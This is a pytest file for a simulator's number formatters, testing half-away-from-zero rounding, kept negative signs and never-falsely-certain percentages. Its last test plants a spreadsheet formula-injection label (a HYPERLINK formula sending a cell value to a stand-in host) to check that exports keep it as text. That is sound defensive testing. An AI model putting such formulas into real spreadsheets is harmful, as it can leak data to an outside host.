"""One rounding rule and honest signs and chances in every number a person reads (issue 11, 17-18)."""

from __future__ import annotations

import pytest

from simulator.present import numbers as n


@pytest.mark.parametrize(
    ("x", "text"),
    [
        (1_250_000, "£1.3m"),  # halves away from zero, not to even (was £1.2m)
        (2_750_000, "£2.8m"),
        (-1_250_000, "−£1.3m"),
        (-27_892, "−£0.0m"),  # a negative that rounds to zero keeps its sign (was £0.0m)
        (27_892, "£0.0m"),
        (0, "£0.0m"),
        (12_345_678, "£12.3m"),
    ],
)
def test_money_rounds_halves_away_and_keeps_signs(x, text):
    assert n.money_text(x) == text
    assert n.gbp_m(x) == text.replace(n.MINUS, "-")


@pytest.mark.parametrize(
    ("p", "text"),
    [
        (0.9996, ">99.9%"),  # was 100.0%
        (0.99949, "99.9%"),
        (0.0001, "<0.1%"),  # was 0.0%
        (0.0, "0%"),
        (1.0, "100%"),
        (0.5, "50%"),
        (0.125, "13%"),  # was 12%
        (0.001, "0.1%"),
    ],
)
def test_console_chances_are_never_falsely_certain(p, text):
    assert n.pct_table(p) == text


def test_every_formatter_rounds_halves_away_from_zero():
    assert n.pct1(0.0125) == "1.3%"
    assert n.pct1(-0.0125) == "−1.3%"
    assert n.pct_text(0.125) == "13%"
    assert n.pct_whole(0.625) == "63%"
    assert n.count(12.5) == "13"
    assert n.count(1_234_567.5) == "1,234,568"
    assert n.money_k_or_m(-12_500) == "-£13k"
    assert n.money_k_or_m(2_745_625) == "£2.7m"
    assert n.gbp(2_500.5) == "£2,501"
    assert n.fixed(0.125, 2) == "0.13"
    assert n.fixed(-0.04, 1) == "0.0" and n.fixed(2.5, sign=True) == "+3"
    assert n.signed_money(20_000) == "£0.0m" and n.signed_money(-20_000) == "−£0.0m"


def test_labels_reach_spreadsheets_as_text_never_as_formulas(tmp_path):
    """Issue 11, 31: a crafted label must not become a live formula in summary.xlsx or summary.csv."""
    import openpyxl

    import simulator
    from simulator.present.report import write_xlsx
    from simulator.results.dataset import write_run
    from tests.helpers import make_config, placement_service

    crafted = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
    config = make_config({"homes": placement_service(label=crafted)})
    ds = simulator.run(config, draws=20, seed=1)
    write_xlsx(ds, tmp_path / "summary.xlsx")
    book = openpyxl.load_workbook(tmp_path / "summary.xlsx")
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value == crafted]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    write_run(ds, tmp_path / "run")
    text = (tmp_path / "run" / "summary.csv").read_text()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
